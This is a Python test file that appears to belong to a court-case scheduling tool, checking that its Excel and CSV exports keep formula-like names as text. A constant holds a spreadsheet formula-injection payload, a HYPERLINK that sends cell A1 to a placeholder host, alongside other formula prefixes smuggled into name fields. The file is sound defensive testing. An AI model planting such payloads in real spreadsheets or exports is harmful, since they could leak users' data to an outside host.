"""No name becomes a formula: every workbook and CSV the product writes, read back, holds the
hostile names as text (a scenario, court, party or case named `=HYPERLINK(…)`, `+1+1`, `@SUM(…)`,
`-2+3`)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from optimizer.cli import main
from optimizer.data.scenario import Scenario
from optimizer.io.csv_out import to_csv
from optimizer.io.xlsx_out import write_plan_workbook
from optimizer.io.xlsx_scenario import write_scenario_workbook, write_template
from optimizer.pipeline import plan_scenario
from optimizer.results.plan import Plan
from optimizer.solver.params import SolveParams

LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'
HOSTILE = (LINK, "+1+1", "@SUM(1,2)", "-2+3", "=1+1")


def _hostile(s: Scenario) -> Scenario:
    courts = tuple(c.model_copy(update={"name": HOSTILE[i % len(HOSTILE)] + c.name})
                   for i, c in enumerate(s.courts))
    cases = list(s.cases)
    for i in range(5):
        k = cases[i]
        cases[i] = k.model_copy(update={
            "applicant": k.applicant.model_copy(update={"name": HOSTILE[i]}),
            "debtor": k.debtor.model_copy(update={"name": HOSTILE[-1 - i]}),
            "debtor_id": "=D" + k.debtor_id})
    return s.model_copy(update={"name": LINK, "courts": courts, "cases": tuple(cases)})


@pytest.fixture(scope="module")
def hostile(lishui: Scenario) -> tuple[Scenario, Plan]:
    s = _hostile(lishui)
    return s, plan_scenario(s, None, SolveParams(time_limit=30.0, workers=1))


def _no_formula(path: Path) -> list[str]:
    """Every text cell of the workbook, checked: no cell is a formula, and text that starts like
    one carries the quote prefix (it stays text when edited)."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), f"{path.name}:{name} holds a formula"
    texts = []
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} {cell.value!r}"
    return texts


def test_the_plan_workbook_keeps_every_name_as_text(hostile: tuple[Scenario, Plan], tmp_path: Path) -> None:
    s, plan = hostile
    write_plan_workbook(plan, tmp_path / "plan.xlsx", s)
    texts = _no_formula(tmp_path / "plan.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "plan.xlsx")
    assert wb["汇总"]["B2"].value == LINK  # the scenario name, as typed
    for sheet in ("法院", "人员调配"):
        assert any(str(v).startswith(HOSTILE[:3]) for r in wb[sheet].iter_rows(values_only=True) for v in r)
    for name in (*HOSTILE, *(c.name for c in s.courts)):
        assert name in texts, name


def test_scenario_workbook_and_template_keep_every_name_as_text(hostile: tuple[Scenario, Plan],
                                                                tmp_path: Path) -> None:
    s, _ = hostile
    write_scenario_workbook(s, tmp_path / "cases.xlsx")
    texts = _no_formula(tmp_path / "cases.xlsx")
    assert LINK in texts and "=D" + s.cases[0].debtor_id.removeprefix("=D") in texts
    write_template(tmp_path / "template.xlsx")
    _no_formula(tmp_path / "template.xlsx")


def test_the_cli_exports_are_safe(hostile: tuple[Scenario, Plan], tmp_path: Path) -> None:
    s, plan = hostile
    (tmp_path / "s.json").write_text(s.model_dump_json(), encoding="utf-8")
    (tmp_path / "p.json").write_text(plan.to_json(), encoding="utf-8")
    assert main(["export", str(tmp_path / "p.json"), "--xlsx", str(tmp_path / "p.xlsx"),
                 "--scenario", str(tmp_path / "s.json")]) == 0
    assert main(["export-scenario", str(tmp_path / "s.json"), "--xlsx", str(tmp_path / "c.xlsx")]) == 0
    for name in ("p.xlsx", "c.xlsx"):
        assert LINK in _no_formula(tmp_path / name)


def test_csv_fields_never_start_a_formula() -> None:
    rows = [{"variant": 0, "officers:=C1": -2, "rule:x": LINK, "status": "@cmd", "note": "+1", "tab": "\t=1"},
            {"variant": 1, "officers:=C1": 3.5, "rule:x": "county", "status": "-x", "note": "ok", "tab": ""}]
    parsed = list(csv.reader(io.StringIO(to_csv(rows))))
    for line in parsed:
        for field in line:
            assert not field.startswith(("=", "+", "@", "\t", "\r")), field
            assert not field.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", field), field
    assert parsed[1][1] == "-2" and parsed[1][2] == "'" + LINK and parsed[2][3] == "'-x"
